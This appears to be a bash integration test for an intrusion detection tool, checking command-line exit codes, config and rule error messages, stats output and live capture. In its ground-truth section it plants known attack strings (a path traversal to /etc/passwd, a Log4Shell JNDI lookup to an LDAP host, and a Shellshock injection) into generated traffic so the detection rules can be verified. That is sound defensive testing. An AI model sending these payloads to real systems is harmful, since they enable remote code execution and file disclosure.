#!/bin/bash
# The command line and the life of a run, end to end: exit codes (0 ok,
# 1 runtime failure, 2 usage/config), config errors that name file, line and
# key, --dump-config round trip, a run over a generated capture (stats
# record last, flow records when enabled, the same counts with 1 and 2
# workers), SIGTERM on a live capture and --exit-idle.
. "$(dirname "$0")/lib.sh"

# expect_exit DESC CODE CMD...  (stderr kept in $WORK/err)
expect_exit() {
	local desc=$1 want=$2 got
	shift 2
	"$@" >"$WORK/out" 2>"$WORK/err"
	got=$?
	check_eq "$desc: exit status" "$want" "$got"
}

expect_exit "no arguments" 2 "$MAMORI"
expect_exit "unknown option" 2 "$MAMORI" --no-such-option
expect_exit "-r and -i together" 2 "$MAMORI" -r a.pcap -i lo
expect_exit "bad -k" 2 "$MAMORI" -k some -T
expect_exit "EAL arguments without --dpdk" 2 "$MAMORI" -r a.pcap -- --no-huge
grep -q "only with --dpdk" "$WORK/err" && ok "EAL arguments need --dpdk" || fail "message: $(cat "$WORK/err")"
# --dpdk: a build without DPDK refuses it and says how to rebuild (the
# DPDK runs themselves are tests/integration/test_dpdk.sh)
if [ "${MAMORI_DPDK:-no}" = yes ]; then
	expect_exit "--dpdk -T in a DPDK build" 0 "$MAMORI" --dpdk -T
	expect_exit "--dpdk with -r" 2 "$MAMORI" --dpdk -r a.pcap
else
	expect_exit "--dpdk without DPDK support" 2 "$MAMORI" --dpdk -T
	grep -q -- "no DPDK support.*--enable-dpdk" "$WORK/err" && ok "--dpdk says how to rebuild" ||
		fail "--dpdk message: $(cat "$WORK/err")"
fi
# rules: -T checks them and names FILE:LINE:COL and the keyword
expect_exit "-T with a missing rule file" 2 "$MAMORI" -S "$WORK/x.rules" -T
grep -q "x.rules" "$WORK/err" && ok "missing rule file named" || fail "message: $(cat "$WORK/err")"
cat >"$WORK/bad.rules" <<'RULES'
# a comment, then a good rule, a bad value, an unknown keyword, a duplicate
alert tcp $HOME_NET any -> $EXTERNAL_NET 80 (msg:"good"; content:"abc"; sid:1; rev:1;)
alert tcp any any -> any 80 (msg:"short depth"; content:"abc"; depth:2; sid:2;)
alert tcp any any -> any 80 (msg:"typo"; conten:"abc"; sid:3;)
alert tcp any any -> any 80 (msg:"dup"; content:"x"; \
  sid:1;)
RULES
expect_exit "-T with bad rules" 2 "$MAMORI" -T -S "$WORK/bad.rules"
grep -q "bad.rules:3:70: depth: " "$WORK/err" && ok "bad value at FILE:LINE:COL with keyword" ||
	fail "depth error: $(cat "$WORK/err")"
grep -q "bad.rules:4:42: conten: unsupported keyword" "$WORK/err" && ok "unknown keyword named" ||
	fail "keyword error: $(cat "$WORK/err")"
grep -q "bad.rules:6:7: sid: duplicate sid 1:1" "$WORK/err" && ok "duplicate sid on its continuation line" ||
	fail "duplicate sid error: $(cat "$WORK/err")"
check_eq "-T summary line" "1 rules loaded, 3 rules failed" "$(tail -n 1 "$WORK/out")"

# ground truth: gen-traffic plants three attack strings; rules/mamori.rules
# must raise exactly one alert for each, on the planted flow, and nothing else
"$GEN_TRAFFIC" -o "$WORK/plant.pcap" --flows 200 --seed 1 --truth "$WORK/truth.jsonl" \
	--plant '../../../../etc/passwd@3:20' \
	--plant '${jndi:ldap://198.51.100.7:1389/a}@7:30' \
	--plant '() { :; }; /bin/bash -c id@11:40' 2>/dev/null
mkdir -p "$WORK/alerts"
expect_exit "run with rules/mamori.rules" 0 "$MAMORI" -r "$WORK/plant.pcap" \
	-S "$TOP_SRCDIR/rules/mamori.rules" -l "$WORK/alerts" -q \
	--set default-rule-path="$TOP_SRCDIR/rules"
python3 - "$WORK/truth.jsonl" "$WORK/alerts/eve.json" <<'PY' && ok "planted attacks raise exactly their alerts" || fail "alerts differ from ground truth"
import json, sys
want = {"../../../../etc/passwd": 9000001, "${jndi:ldap://198.51.100.7:1389/a}": 9000002,
        "() { :; }; /bin/bash -c id": 9000003}
truth = [json.loads(l) for l in open(sys.argv[1])]
expect = sorted((want[t["pattern"]], t["src_ip"], t["src_port"], t["dest_ip"], t["dest_port"]) for t in truth)
alerts = [r for r in map(json.loads, open(sys.argv[2])) if r["event_type"] == "alert"]
got = sorted((a["alert"]["signature_id"], a["src_ip"], a["src_port"], a["dest_ip"], a["dest_port"]) for a in alerts)
print("expected", expect)
print("got     ", got)
assert got == expect
for a in alerts:
    assert a["flow_id"] > 0 and a["community_id"].startswith("1:")
    assert a["alert"]["severity"] == 1 and a["alert"]["category"]
    assert a["payload"] and a["payload_printable"]
PY
check_eq "detect.alert counts them" 3 "$(stats_field "$WORK/alerts/eve.json" detect.alert)"
et="$MAMORI_CORPUS/rules/et-open/emerging-exploit.rules"
if [ -f "$et" ]; then
	expect_exit "-T on ET Open's emerging-exploit.rules" 0 "$MAMORI" -T -S "$et"
	tail -n 2 "$WORK/out" | grep -Eq "^[0-9]+ rules loaded, 0 rules failed$" &&
		ok "ET Open exploit rules all load" || fail "ET Open: $(tail -n 2 "$WORK/out")"
else
	fail "corpus rules missing at $et"
fi
# The public rule sets whole: every rule that fails, fails only for a
# keyword mamori does not support (the parser accepts all the rest)
for set in et-open snort3-community; do
	files=$(ls "$MAMORI_CORPUS/rules/$set"/*.rules 2>/dev/null)
	if [ -z "$files" ]; then
		fail "corpus rules missing: $set"
		continue
	fi
	args=""
	for f in $files; do args="$args -S $f"; done
	# shellcheck disable=SC2086
	"$MAMORI" -T $args --set detect.hs-cache-dir= >"$WORK/$set.out" 2>&1
	failed=$(sed -n 's/^[0-9]* rules loaded, \([0-9]*\) rules failed$/\1/p' "$WORK/$set.out")
	unsup=$(grep -c ': unsupported keyword$' "$WORK/$set.out")
	if [ -n "$failed" ] && [ "$failed" = "$unsup" ]; then
		ok "$set: $(tail -n 1 "$WORK/$set.out"), all for unsupported keywords"
	else
		fail "$set: $failed failed, $unsup for unsupported keywords: $(grep -v ': unsupported keyword$' "$WORK/$set.out" | grep -E ':[0-9]+:[0-9]+: ' | grep -v '^warning' | head -3)"
	fi
done
expect_exit "--help" 0 "$MAMORI" --help
expect_exit "-T on the default config" 0 "$MAMORI" -T

# a bad key in a file: exit 2, message names file, line and key
cat >"$WORK/bad.yaml" <<'YAML'
flow:
  memcap: 64mb
  hash-sise: 1024
YAML
expect_exit "unknown key in config file" 2 "$MAMORI" -T -c "$WORK/bad.yaml"
grep -q "bad.yaml:3" "$WORK/err" && grep -q "flow.hash-sise" "$WORK/err" &&
	ok "unknown key error names file:line and key" ||
	fail "unknown key message: $(cat "$WORK/err")"
cat >"$WORK/badval.yaml" <<'YAML'
stats:
  interval: soon
YAML
expect_exit "bad value in config file" 2 "$MAMORI" -T -c "$WORK/badval.yaml"
grep -q "badval.yaml:2" "$WORK/err" && grep -q "stats.interval" "$WORK/err" &&
	ok "bad value error names file:line and key" ||
	fail "bad value message: $(cat "$WORK/err")"
expect_exit "bad --set value" 2 "$MAMORI" -T --set flow.memcap=lots
grep -q "flow.memcap" "$WORK/err" && ok "--set error names the key" ||
	fail "--set message: $(cat "$WORK/err")"
expect_exit "bad --workers" 2 "$MAMORI" -T --workers many
expect_exit "bad BPF filter under -T" 2 "$MAMORI" -T -f "tcp port"
grep -q "pcap.bpf-filter" "$WORK/err" && ok "-T names the filter key" || fail "message: $(cat "$WORK/err")"
expect_exit "missing config file" 2 "$MAMORI" -T -c "$WORK/nope.yaml"

# --dump-config is a valid config that dumps to itself
"$MAMORI" --dump-config --set flow.memcap=32mb >"$WORK/dump1.yaml" 2>"$WORK/err"
check_eq "--dump-config exit" 0 $?
"$MAMORI" --dump-config -c "$WORK/dump1.yaml" >"$WORK/dump2.yaml" 2>>"$WORK/err"
cmp -s "$WORK/dump1.yaml" "$WORK/dump2.yaml" && ok "--dump-config round trip" ||
	fail "--dump-config round trip differs"
grep -q "memcap: 32mb" "$WORK/dump1.yaml" && ok "--set shows in the dump" ||
	fail "--set value missing from dump"

# runtime failures exit 1
expect_exit "missing capture file" 1 "$MAMORI" -r "$WORK/none.pcap" -l "$WORK"
grep -q "none.pcap" "$WORK/err" && ok "missing file named" || fail "message: $(cat "$WORK/err")"

# a run over a generated capture
"$GEN_TRAFFIC" -o "$WORK/t.pcap" --flows 300 --seed 7 2>"$WORK/gen.log"
gen_tcp=$(sed -n 's/.*tcp_flows=\([0-9]*\).*/\1/p' "$WORK/gen.log")
expect_exit "bad BPF filter" 2 "$MAMORI" -r "$WORK/t.pcap" -f "tcp port" -l "$WORK"
grep -q "BPF" "$WORK/err" && ok "bad filter explained" || fail "message: $(cat "$WORK/err")"
for w in 1 2; do
	mkdir -p "$WORK/w$w"
	expect_exit "run with $w workers" 0 "$MAMORI" -r "$WORK/t.pcap" -l "$WORK/w$w" \
		--workers "$w" --set outputs.eve-log.flow.enabled=yes
done
check_eq "stats record is the last line" stats \
	"$(tail -n 1 "$WORK/w1/eve.json" | python3 -c 'import json,sys; print(json.load(sys.stdin)["event_type"])')"
frames=$("${TSHARK:-tshark}" -r "$WORK/t.pcap" 2>/dev/null | wc -l)
check_eq "decoder.pkts equals the frames in the file" "$frames" "$(stats_field "$WORK/w1/eve.json" decoder.pkts)"
for k in decoder.pkts decoder.bytes decoder.tcp decoder.udp flow.total flow.tcp flow.udp; do
	check_eq "$k same with 1 and 2 workers" "$(stats_field "$WORK/w1/eve.json" $k)" \
		"$(stats_field "$WORK/w2/eve.json" $k)"
done
check_eq "flow.tcp equals the generator's TCP flows" "$gen_tcp" "$(stats_field "$WORK/w1/eve.json" flow.tcp)"
nflow=$(grep -c '"event_type":"flow"' "$WORK/w2/eve.json")
check_eq "one flow record per flow" "$(stats_field "$WORK/w2/eve.json" flow.total)" "$nflow"
python3 - "$WORK/w2/eve.json" <<'PY' && ok "every line is JSON with the EVE header" || fail "EVE lines"
import json, sys
for line in open(sys.argv[1]):
    r = json.loads(line)
    assert "timestamp" in r and "event_type" in r, line
    if r["event_type"] == "flow":
        assert r["flow_id"] > 0 and r["community_id"].startswith("1:"), line
        f = r["flow"]
        if r["proto"] == "TCP":
            # gen-traffic: clients in 10/8 or 192.168/16 on ephemeral
            # ports, every flow answered by its server
            assert r["src_ip"].startswith(("10.", "192.168.", "fd")), line
            assert r["src_port"] > r["dest_port"], line
            assert f["pkts_toserver"] > 0 and f["pkts_toclient"] > 0, line
            assert f["bytes_toserver"] > 0 and f["bytes_toclient"] > 0, line
PY

# stats.decoder-events (on by default, as in Suricata) puts the per-reason
# decoder.event counters in the stats record; off leaves them out and the
# other decoder counters in
mkdir -p "$WORK/noev"
expect_exit "run with stats.decoder-events off" 0 "$MAMORI" -r "$WORK/t.pcap" -l "$WORK/noev" \
	--set stats.decoder-events=false
check_eq "decoder.event present by default" yes \
	"$(tail -n 1 "$WORK/w1/eve.json" | python3 -c 'import json,sys; print("yes" if "event" in json.load(sys.stdin)["stats"]["decoder"] else "no")')"
check_eq "decoder.event absent with decoder-events off" no \
	"$(tail -n 1 "$WORK/noev/eve.json" | python3 -c 'import json,sys; print("yes" if "event" in json.load(sys.stdin)["stats"]["decoder"] else "no")')"
check_eq "decoder.pkts still there with decoder-events off" "$frames" "$(stats_field "$WORK/noev/eve.json" decoder.pkts)"

# pcap-file.loop reads the file again with time moving forward: three
# passes decode three times the frames, and TCP flows of a later pass are
# new flows (port reuse after close), not continuations
mkdir -p "$WORK/loop"
expect_exit "pcap-file.loop=3" 0 "$MAMORI" -r "$WORK/t.pcap" -l "$WORK/loop" --set pcap-file.loop=3
check_eq "three passes, three times the frames" "$((frames * 3))" "$(stats_field "$WORK/loop/eve.json" decoder.pkts)"
check_eq "three passes, three times the TCP flows" "$(( $(stats_field "$WORK/w1/eve.json" flow.tcp) * 3 ))" \
	"$(stats_field "$WORK/loop/eve.json" flow.tcp)"

# live capture on loopback: --exit-idle stops it, SIGTERM stops it cleanly
if [ "$(id -u)" -eq 0 ]; then
	mkdir -p "$WORK/live"
	# a port of our own: other test runs on this host use lo too
	lport=$((40000 + $$ % 20000))
	"$MAMORI" -i lo -l "$WORK/live" --exit-idle 2 -f "udp port $lport" >"$WORK/live.log" 2>&1 &
	pid=$!
	sleep 1
	for i in 1 2 3 4 5; do echo "ping $i" >/dev/udp/127.0.0.1/$lport 2>/dev/null || true; done
	wait $pid
	check_eq "live capture with --exit-idle exits 0" 0 $?
	check_eq "live capture saw the 5 datagrams" 5 "$(stats_field "$WORK/live/eve.json" decoder.udp)"
	mkdir -p "$WORK/term"
	"$MAMORI" -i lo -l "$WORK/term" >"$WORK/term.log" 2>&1 &
	pid=$!
	sleep 1
	kill -TERM $pid
	wait $pid
	check_eq "SIGTERM exits 0" 0 $?
	check_eq "SIGTERM writes the final stats record" stats \
		"$(tail -n 1 "$WORK/term/eve.json" | python3 -c 'import json,sys; print(json.load(sys.stdin)["event_type"])')"
else
	echo "not root: live capture checks not run"
	fail "live capture checks need root"
fi
finish
